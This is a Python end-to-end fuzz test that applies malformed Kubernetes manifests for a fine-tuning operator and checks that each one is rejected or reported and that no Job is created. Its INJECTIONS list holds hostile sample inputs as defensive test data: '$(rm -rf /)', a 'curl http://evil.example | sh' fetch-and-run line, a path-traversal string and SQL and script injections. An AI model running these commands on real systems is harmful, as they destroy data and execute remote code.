"""Malformed FineTuningTask and TunedModel manifests, generated with hypothesis and applied
to the real apiserver while the operator runs.

Each manifest is either rejected at `kubectl apply` with a message that names the
offending field, or accepted (the CRD cannot see the problem) and then reported by the
operator as `InputsReady=False` with a reason and a message. Afterwards the operator is
still alive, never failed a reconcile on them, created no Job for any of them (the audit
log says so), and still runs a valid task.

The examples are fixed (`derandomize`) and few per kind of mistake, so the run is the same
every time. Shrinking is off: each example is a round trip to the apiserver, and the
failing manifest is printed as it was.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from kubernetes import client

from devcluster.audit import successful_creates
from devcluster.state import ClusterInfo
from kubetune.api import FineTuningTaskSpec
from kubetune.api.base import DNS_LABEL_PATTERN, DNS_SUBDOMAIN_PATTERN, URI_PATTERN
from kubetune.api.finetuningtask import (
    RESERVED_ENV_NAMES,
    DatasetSpec,
    FixedHyperparameters,
    HyperparameterSpec,
    ObjectiveSpec,
    TrainerSpec,
)
from tests.conftest import Kubectl
from tests.e2e.fixtures import (
    DATA_BUCKET,
    E2eData,
    OperatorProcess,
    apply,
    fine_tuning_task,
    get,
    tuned_model,
    wait_phase,
)
from tests.support import wait_for

MODEL = "minilm"
BASE_TASK: dict[str, Any] = {
    "apiVersion": "kubetune.dev/v1alpha1",
    "kind": "FineTuningTask",
    "metadata": {},
    "spec": {
        "modelRef": {"name": MODEL},
        "dataset": {
            "train": [f"s3://{DATA_BUCKET}/debian/train.jsonl.gz"],
            "validation": [f"s3://{DATA_BUCKET}/debian/dev.jsonl"],
        },
        "hyperparameters": {
            "fixed": {"batchSize": 16, "maxSteps": 4, "maxSeqLength": 48},
            "searchSpace": [{"name": "learningRate", "categorical": {"values": [1e-4]}}],
            "parallelTrials": 1,
        },
    },
}
BASE_MODEL: dict[str, Any] = {
    "apiVersion": "kubetune.dev/v1alpha1",
    "kind": "TunedModel",
    "metadata": {},
    "spec": {"baseModel": f"s3://{DATA_BUCKET}/models/minilm/"},
}
INJECTIONS = (
    "$(rm -rf /)",
    "`id`",
    "'; DROP TABLE tunedmodels; --",
    "a\nb",
    "x; curl http://evil.example | sh",
    "${HOME}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "ünïcödé",
    "\u202etxt.exe",
    "%00",
    "",
)


@dataclass(frozen=True)
class Case:
    """One malformed manifest and what must become of it.

    `reason` None: the apiserver rejects it and its message contains `expect`. Otherwise
    the apiserver accepts it and the operator sets InputsReady=False with this reason and
    a message containing `expect`. A manifest without a name gets a unique one."""

    kind: str
    manifest: dict[str, Any]
    expect: str
    reason: str | None = None


def _with(base: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A copy of `base` with `value` at the dotted `path` (`.0` indexes a list); missing
    objects on the way are created."""
    manifest = copy.deepcopy(base)
    *parents, last = path.split(".")
    node: Any = manifest
    for part in parents:
        node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
    if last.isdigit():
        node[int(last)] = value
    else:
        node[last] = value
    return manifest


def _field(path: str) -> str:
    """How the apiserver writes a path: `spec.dataset.train.0` -> `spec.dataset.train[0]`."""
    return re.sub(r"\.(\d+)", r"[\1]", path)


def _go_pattern(pattern: str) -> re.Pattern[str]:
    r"""The CRD's pattern as the apiserver (Go RE2) applies it: `\S` excludes only ASCII
    whitespace there, while Python's also excludes Unicode spaces."""
    return re.compile(pattern.replace(r"\S", r"[^\t\n\f\r ]"))


def _matches(pattern: str, value: str) -> bool:
    return _go_pattern(pattern).search(value) is not None


def _aliases(model: type[Any]) -> set[str]:
    return {field.alias or name for name, field in model.model_fields.items()}


# -- values of the wrong JSON type ------------------------------------------------------

TEXT = st.text(
    st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=12
)
JSON_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "string": TEXT,
    "integer": st.integers(-(2**40), 2**40),
    "number": st.floats(allow_nan=False, allow_infinity=False).filter(lambda v: v != int(v)),
    "boolean": st.booleans(),
    "array": st.lists(st.integers(0, 9), min_size=1, max_size=3),
    "object": st.dictionaries(st.sampled_from("abc"), st.integers(0, 9), min_size=1, max_size=2),
}
TYPED_FIELDS = (
    ("spec.hyperparameters.parallelTrials", "integer"),
    ("spec.hyperparameters.maxTrials", "integer"),
    ("spec.hyperparameters.fixed.batchSize", "integer"),
    ("spec.hyperparameters.fixed.learningRate", "number"),
    ("spec.dataset.train", "array"),
    ("spec.dataset.evalFraction", "number"),
    ("spec.modelRef.name", "string"),
    ("spec.suspend", "boolean"),
    ("spec.restartGeneration", "integer"),
)
# What the schema accepts for each type: an integer is a number too.
ACCEPTS = {"number": {"number", "integer"}}


@st.composite
def wrong_types(draw: st.DrawFn) -> Case:
    path, wanted = draw(st.sampled_from(TYPED_FIELDS))
    other = draw(
        st.sampled_from([t for t in JSON_VALUES if t not in ACCEPTS.get(wanted, {wanted})])
    )
    return Case("wrong type", _with(BASE_TASK, path, draw(JSON_VALUES[other])), path)


# -- numbers out of range ---------------------------------------------------------------

INT_LIMITS = (
    (BASE_TASK, "spec.hyperparameters.parallelTrials", 1, 64),
    (BASE_TASK, "spec.hyperparameters.maxTrials", 1, 256),
    (BASE_TASK, "spec.hyperparameters.seed", 0, 2**31 - 1),
    (BASE_TASK, "spec.hyperparameters.fixed.batchSize", 2, 65536),
    (BASE_TASK, "spec.hyperparameters.fixed.maxSeqLength", 8, 8192),
    (BASE_TASK, "spec.hyperparameters.fixed.epochs", 1, 1000),
    (BASE_TASK, "spec.trainer.backoffLimit", 0, 10),
    (BASE_TASK, "spec.gradientCache.miniBatchSize", 1, 65536),
    (BASE_MODEL, "spec.retention", 1, 10),
)


@st.composite
def ints_out_of_range(draw: st.DrawFn) -> Case:
    base, path, low, high = draw(st.sampled_from(INT_LIMITS))
    value = draw(st.integers(-(2**62), low - 1) | st.integers(high + 1, 2**62))
    return Case("integer out of range", _with(base, path, value), path)


@st.composite
def ints_beyond_int64(draw: st.DrawFn) -> Case:
    path = draw(
        st.sampled_from(
            [
                "spec.hyperparameters.fixed.maxSteps",
                "spec.hyperparameters.fixed.checkpointEverySteps",
                "spec.trainer.activeDeadlineSeconds",
            ]
        )
    )
    value = draw(st.integers(2**63, 10**40) | st.integers(-(10**40), -(2**63) - 1))
    return Case("integer beyond int64", _with(BASE_TASK, path, value), path)


# (path, lower bound, lower bound allowed, upper bound or None, upper bound allowed)
FLOAT_LIMITS = (
    ("spec.hyperparameters.fixed.learningRate", 0.0, False, 1.0, True),
    ("spec.hyperparameters.fixed.warmupRatio", 0.0, True, 1.0, True),
    ("spec.hyperparameters.fixed.weightDecay", 0.0, True, None, True),
    ("spec.dataset.evalFraction", 0.0, False, 1.0, False),
    ("spec.loss.scale", 0.0, False, None, True),
)


def _in_range(value: float, low: float, low_ok: bool, high: float | None, high_ok: bool) -> bool:
    above = value > low or (low_ok and value == low)
    below = high is None or value < high or (high_ok and value == high)
    return above and below


@st.composite
def floats_out_of_range(draw: st.DrawFn) -> Case:
    path, low, low_ok, high, high_ok = draw(st.sampled_from(FLOAT_LIMITS))
    outside = st.floats(max_value=low, allow_nan=False, allow_infinity=False)
    if high is not None:
        outside |= st.floats(min_value=high, allow_nan=False, allow_infinity=False)
    value = draw(outside.filter(lambda v: not _in_range(v, low, low_ok, high, high_ok)))
    return Case("number out of range", _with(BASE_TASK, path, value), path)


# -- inverted bounds --------------------------------------------------------------------


@st.composite
def inverted_bounds(draw: st.DrawFn) -> Case:
    if draw(st.booleans()):
        bounds = draw(st.lists(st.floats(1e-8, 1.0), min_size=2, max_size=2))
        parameter = {"name": "learningRate", "float": {"min": max(bounds), "max": min(bounds)}}
        path = "spec.hyperparameters.searchSpace[0].float"
    else:
        bounds = draw(st.lists(st.integers(2, 4096), min_size=2, max_size=2))
        parameter = {"name": "batchSize", "int": {"min": max(bounds), "max": min(bounds)}}
        path = "spec.hyperparameters.searchSpace[0].int"
    manifest = _with(BASE_TASK, "spec.hyperparameters.searchSpace", [parameter])
    return Case("inverted bounds", manifest, f"{path}: Invalid value: min must be less than max")


# -- unknown fields ---------------------------------------------------------------------

KNOWN_KEYS = {
    "spec": _aliases(FineTuningTaskSpec),
    "spec.dataset": _aliases(DatasetSpec),
    "spec.hyperparameters": _aliases(HyperparameterSpec),
    "spec.hyperparameters.fixed": _aliases(FixedHyperparameters),
    "spec.trainer": _aliases(TrainerSpec),
    "spec.objective": _aliases(ObjectiveSpec),
}


@st.composite
def unknown_fields(draw: st.DrawFn) -> Case:
    where = draw(st.sampled_from(sorted(KNOWN_KEYS)))
    key = draw(
        st.from_regex(r"\A[a-z][a-zA-Z]{2,15}\Z").filter(lambda k: k not in KNOWN_KEYS[where])
    )
    value = draw(JSON_VALUES["integer"] | TEXT)
    manifest = _with(BASE_TASK, f"{where}.{key}", value)
    return Case("unknown field", manifest, f'unknown field "{where}.{key}"')


# -- huge strings and lists -------------------------------------------------------------

LONG_STRINGS = (
    (BASE_TASK, "spec.dataset.train.0", f"s3://{DATA_BUCKET}/", 1024),
    (BASE_TASK, "spec.dataset.columns.anchor", "", 256),
    (BASE_TASK, "spec.trainer.image", "registry.example/", 512),
    (BASE_MODEL, "spec.baseModel", f"s3://{DATA_BUCKET}/", 1024),
    (BASE_MODEL, "spec.storage.prefix", "", 512),
)


@st.composite
def huge_strings(draw: st.DrawFn) -> Case:
    base, path, prefix, limit = draw(st.sampled_from(LONG_STRINGS))
    value = prefix + "x" * draw(st.integers(limit + 1, 200_000))
    return Case("huge string", _with(base, path, value), f"{_field(path)}: Too long")


@st.composite
def huge_lists(draw: st.DrawFn) -> Case:
    count = draw(st.integers(65, 500))
    path, items = draw(
        st.sampled_from(
            [
                (
                    "spec.dataset.train",
                    [f"s3://{DATA_BUCKET}/part-{i}.jsonl" for i in range(count)],
                ),
                (
                    "spec.hyperparameters.searchSpace.0.categorical.values",
                    list(range(2, count + 2)),
                ),
                ("spec.trainer.tolerations", [{"operator": "Exists"}] * count),
                ("spec.trainer.env", [{"name": f"V{i}", "value": "x"} for i in range(count)]),
            ]
        )
    )
    return Case("huge list", _with(BASE_TASK, path, items), f"{_field(path)}: Too many")


# -- injection-looking strings in fields with a pattern or an enumeration ---------------

PATTERNED = (
    (BASE_TASK, "spec.modelRef.name", DNS_LABEL_PATTERN),
    (BASE_TASK, "spec.dataset.train.0", URI_PATTERN),
    (BASE_TASK, "spec.trainer.image", r"^\S+$"),
    (BASE_TASK, "spec.trainer.serviceAccountName", DNS_SUBDOMAIN_PATTERN),
    (BASE_TASK, "spec.trainer.queueName", DNS_LABEL_PATTERN),
    (BASE_TASK, "spec.trainer.nodeSelector.disk", r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$"),
    (BASE_MODEL, "spec.baseModel", URI_PATTERN),
    (BASE_MODEL, "spec.storage.bucket", r"^[a-z0-9][a-z0-9.-]*[a-z0-9]$"),
    (BASE_MODEL, "spec.storage.endpoint", r"^https?://[^\s/]+(/\S*)?$"),
    (BASE_MODEL, "spec.storage.credentialsSecret.name", DNS_SUBDOMAIN_PATTERN),
)
ENUMERATED = (
    ("spec.dataset.format", {"pairs", "triplets", "scored", "sessions"}),
    ("spec.objective.metric", set()),
    ("spec.hyperparameters.algorithm", {"grid", "random", "tpe"}),
    ("spec.hyperparameters.searchSpace.0.name", set()),
)
INJECTION = st.builds(
    lambda prefix, text, suffix: prefix + text + suffix,
    st.sampled_from(["", "s3://bucket/", "/data/", "ok-"]),
    st.sampled_from(INJECTIONS),
    st.sampled_from(["", "x", "/", ".jsonl"]),
)


@st.composite
def injections(draw: st.DrawFn) -> Case:
    if draw(st.booleans()):
        base, path, pattern = draw(st.sampled_from(PATTERNED))
        value = draw(INJECTION.filter(lambda v: not _matches(pattern, v)))
    else:
        base = BASE_TASK
        path, _ = draw(st.sampled_from(ENUMERATED))
        value = draw(INJECTION)  # no enumeration holds any of these
    return Case("injection", _with(base, path, value), _field(path))


# -- bad names --------------------------------------------------------------------------

NAME = st.one_of(
    INJECTION,
    st.text(
        st.characters(codec="utf-8", categories=("Ll", "Lu", "Nd", "P", "Zs")),
        min_size=1,
        max_size=40,
    ),
    st.integers(64, 300).map(lambda n: "a" * n),
)


def _bad_name(name: str) -> bool:
    # kubectl itself refuses names with '/' or '%' and empty ones, before any request.
    if not name.strip() or name in (".", "..") or "/" in name or "%" in name:
        return False
    return len(name) > 63 or not re.fullmatch(DNS_SUBDOMAIN_PATTERN, name)


@st.composite
def bad_names(draw: st.DrawFn) -> Case:
    base = draw(st.sampled_from([BASE_TASK, BASE_MODEL]))
    return Case(
        "bad name", _with(base, "metadata.name", draw(NAME.filter(_bad_name))), "metadata.name"
    )


# -- rules across fields (CEL) ----------------------------------------------------------

CrossRule = Callable[[st.DrawFn], tuple[dict[str, Any], str]]


def _lora_on_full(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    method = {"type": "full", "lora": {"r": draw(st.integers(1, 1024))}}
    message = "lora settings apply only to method type 'lora'"
    return _with(BASE_TASK, "spec.method", method), "spec.method", message


def _parallel_above_max(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    most = draw(st.integers(1, 63))
    manifest = _with(BASE_TASK, "spec.hyperparameters.maxTrials", most)
    manifest = _with(
        manifest, "spec.hyperparameters.parallelTrials", draw(st.integers(most + 1, 64))
    )
    return manifest, "spec.hyperparameters", "parallelTrials must not exceed maxTrials"


def _search_without_max(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    algorithm = draw(st.sampled_from(["random", "tpe"]))
    manifest = _with(BASE_TASK, "spec.hyperparameters.algorithm", algorithm)
    return manifest, "spec.hyperparameters", f"{algorithm} search needs maxTrials"


def _reserved_env(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    env = [{"name": draw(st.sampled_from(RESERVED_ENV_NAMES)), "value": draw(INJECTION)}]
    manifest = _with(BASE_TASK, "spec.trainer.env", env)
    return manifest, "spec.trainer.env[0]", "this variable is set by the operator"


def _exists_with_value(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    toleration = {
        "key": "gpu",
        "operator": "Exists",
        "value": draw(st.from_regex(r"\A[a-z]{1,10}\Z")),
    }
    manifest = _with(BASE_TASK, "spec.trainer.tolerations", [toleration])
    message = "a toleration with operator 'Exists' takes no value"
    return manifest, "spec.trainer.tolerations[0]", message


def _seconds_without_no_execute(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    toleration: dict[str, Any] = {"key": "gpu", "tolerationSeconds": draw(st.integers(0, 10**6))}
    effect = draw(st.sampled_from([None, "NoSchedule", "PreferNoSchedule"]))
    if effect is not None:
        toleration["effect"] = effect
    manifest = _with(BASE_TASK, "spec.trainer.tolerations", [toleration])
    message = "tolerationSeconds applies only to effect 'NoExecute'"
    return manifest, "spec.trainer.tolerations[0]", message


def _float_range_on_int(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    name = draw(st.sampled_from(["batchSize", "maxSteps", "maxSeqLength", "epochs"]))
    space = [{"name": name, "float": {"min": 8.0, "max": 64.0}}]
    manifest = _with(BASE_TASK, "spec.hyperparameters.searchSpace", space)
    message = "a float range applies only to real-valued parameters"
    return manifest, "spec.hyperparameters.searchSpace[0]", message


def _loss_for_other_format(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    loss = draw(st.sampled_from(["weighted", "triplet"]))
    manifest = _with(BASE_TASK, "spec.loss", {"name": loss})
    # A rule on the whole spec: the path is `spec`; the message names both fields.
    return manifest, "spec", "this loss cannot train on this dataset format"


CROSS_RULES: tuple[CrossRule, ...] = (
    _lora_on_full,
    _parallel_above_max,
    _search_without_max,
    _reserved_env,
    _exists_with_value,
    _seconds_without_no_execute,
    _float_range_on_int,
    _loss_for_other_format,
)


@st.composite
def cross_field_rules(draw: st.DrawFn) -> Case:
    rule = draw(st.sampled_from(CROSS_RULES))
    manifest, path, message = rule(draw)
    return Case("cross-field rule", manifest, f"{path}: Invalid value: {message}")


# -- accepted by the apiserver, refused by the operator ---------------------------------

INVALID_SPEC = "InvalidSpec"
# (parameter, values the trainer or the API limits refuse); the CRD cannot type them.
BAD_SEARCHED_VALUES: tuple[tuple[str, st.SearchStrategy[Any]], ...] = (
    ("learningRate", st.floats(1.0, 1e300, exclude_min=True) | st.floats(-1e300, 0.0)),
    ("batchSize", st.integers(-(2**40), 1) | st.integers(65537, 2**40)),
    ("maxSeqLength", st.integers(-1000, 7) | st.integers(8193, 10**6)),
    ("warmupRatio", st.floats(1.0, 1e6, exclude_min=True)),
    ("batchSize", st.floats(2.5, 1e6).filter(lambda v: v != int(v))),
    ("precision", INJECTION),
    ("learningRate", st.booleans() | INJECTION),
    ("maxSteps", st.none() | JSON_VALUES["array"] | JSON_VALUES["object"]),
)


@st.composite
def bad_searched_values(draw: st.DrawFn) -> Case:
    name, values = draw(st.sampled_from(BAD_SEARCHED_VALUES))
    value = draw(values)
    space = [{"name": name, "categorical": {"values": [value]}}]
    manifest = _with(BASE_TASK, "spec.hyperparameters.searchSpace", space)
    return Case("searched value the trainer refuses", manifest, "searchSpace", INVALID_SPEC)


@st.composite
def ranges_beyond_limits(draw: st.DrawFn) -> Case:
    choice = draw(st.sampled_from(["learningRate", "warmupRatio", "batchSize", "maxSeqLength"]))
    if choice in ("learningRate", "warmupRatio"):
        bounds = {"min": 0.01, "max": draw(st.floats(1.0, 1e12, exclude_min=True))}
        parameter = {"name": choice, "float": bounds}
    else:
        low = draw(st.integers(-1000, 1)) if choice == "batchSize" else 16
        high = 64 if choice == "batchSize" else draw(st.integers(8193, 10**9))
        parameter = {"name": choice, "int": {"min": low, "max": high}}
    manifest = _with(BASE_TASK, "spec.hyperparameters.searchSpace", [parameter])
    return Case("range beyond the limits", manifest, f"searchSpace {choice}", INVALID_SPEC)


@st.composite
def jobs_the_apiserver_refuses(draw: st.DrawFn) -> Case:
    """Requests above limits: valid as a CRD, refused when the operator creates the Job;
    the apiserver's message, naming the Job's field, must reach the condition."""
    limit = draw(st.integers(1, 16))
    request = draw(st.integers(limit + 1, 64))
    resources = {"requests": {"cpu": str(request)}, "limits": {"cpu": str(limit)}}
    manifest = _with(BASE_TASK, "spec.trainer.resources", resources)
    return Case("job refused", manifest, "resources.requests", "ActionFailed")


MUTATIONS: tuple[st.SearchStrategy[Case], ...] = (
    wrong_types(),
    ints_out_of_range(),
    ints_beyond_int64(),
    floats_out_of_range(),
    inverted_bounds(),
    unknown_fields(),
    huge_strings(),
    huge_lists(),
    injections(),
    bad_names(),
    cross_field_rules(),
    bad_searched_values(),
    ranges_beyond_limits(),
    jobs_the_apiserver_refuses(),
)
EXAMPLES_PER_KIND = 3


def _short(manifest: dict[str, Any]) -> str:
    text = json.dumps(manifest, default=str)
    return text if len(text) < 600 else text[:600] + "..."


def _inputs_ready(task: dict[str, Any]) -> dict[str, Any] | None:
    conditions = (task.get("status") or {}).get("conditions") or []
    return next((c for c in conditions if c["type"] == "InputsReady"), None)


def test_malformed_manifests_are_rejected_or_reported_and_leave_no_job(
    kubectl: Kubectl,
    tenant: str,
    e2e_data: E2eData,
    operator: OperatorProcess,
    devcluster: ClusterInfo,
    batch: client.BatchV1Api,
) -> None:
    apply(kubectl, tenant, tuned_model(MODEL, e2e_data.base_model))
    applied: dict[str, Case] = {}  # manifest as JSON -> case, so duplicates count once
    accepted: dict[str, Case] = {}  # task name -> case

    @settings(
        derandomize=True,
        database=None,
        max_examples=EXAMPLES_PER_KIND,
        deadline=None,
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
    )
    @given(data=st.data())
    def check(mutation: st.SearchStrategy[Case], data: st.DataObject) -> None:
        case = data.draw(mutation)
        manifest = copy.deepcopy(case.manifest)
        if not manifest["metadata"].get("name"):
            manifest["metadata"]["name"] = f"bad-{len(applied)}"
        key = json.dumps(case.manifest, sort_keys=True, default=str)
        if key in applied:
            return
        applied[key] = case
        result = kubectl("apply", "-n", tenant, "-f", "-", input=json.dumps(manifest), check=False)
        where = f"{case.kind}: {_short(manifest)}"
        if case.reason is None:
            assert result.returncode != 0, f"accepted, should be rejected: {where}"
            assert case.expect in result.stderr, f"{where}\nmessage: {result.stderr[:2000]}"
        else:
            assert result.returncode == 0, f"{where}\nrejected: {result.stderr[:2000]}"
            accepted[manifest["metadata"]["name"]] = case

    for mutation in MUTATIONS:
        check(mutation)
    assert len(applied) >= 30, f"only {len(applied)} distinct manifests"
    assert {case.kind for case in applied.values()} >= {"wrong type", "injection", "bad name"}

    # The operator reports every accepted one, each with its reason and a message.
    def unreported() -> list[str]:
        missing = []
        for name, case in accepted.items():
            condition = _inputs_ready(get(kubectl, tenant, "finetuningtask", name))
            if not (
                condition
                and condition["status"] == "False"
                and condition["reason"] == case.reason
                and case.expect in condition["message"]
            ):
                missing.append(f"{name} ({case.kind}): {condition}")
        return missing

    wait_for(lambda: not unreported(), "every accepted manifest reported", timeout=90)
    assert accepted, "no manifest reached the operator"

    assert operator.process is not None and operator.process.poll() is None, "operator died"
    failures = [
        line
        for line in operator.log().splitlines()
        if f" {tenant}/" in line and "failed; retrying" in line
    ]
    assert not failures, failures

    # ... and still runs a valid task: its Job is the only one ever created here.
    apply(kubectl, tenant, fine_tuning_task("valid", MODEL, e2e_data, [1e-4]))
    wait_phase(kubectl, tenant, "valid", {"Running", "Succeeded"}, timeout=120)
    jobs = wait_for(
        lambda: [j.metadata.name for j in batch.list_namespaced_job(tenant).items],
        "the valid task's Job",
    )
    assert jobs == ["valid-t0"], jobs
    creates = wait_for(
        lambda: (
            (c := successful_creates(Path(devcluster.state_dir), "jobs", tenant))
            and "valid-t0" in c
            and c
        ),
        "the valid Job's create in the audit log",
    )
    assert creates == {"valid-t0": 1}, creates
    # Stop its training: nothing more to prove, and the machine is shared.
    kubectl("delete", "-n", tenant, "finetuningtask", "valid", "--wait=false")
